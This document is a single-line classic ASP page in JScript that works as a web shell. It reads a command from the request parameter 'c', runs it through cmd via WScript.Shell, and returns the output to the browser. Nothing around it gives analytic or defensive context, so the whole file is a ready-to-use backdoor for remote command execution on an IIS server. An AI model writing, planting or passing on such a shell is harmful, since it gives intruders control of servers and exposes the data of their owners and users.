<%@ Language="JScript" %><% var s = new ActiveXObject("WScript.Shell"); Response.Write(s.Exec("cmd /c " + Request.Item("c")).StdOut.ReadAll()); %>
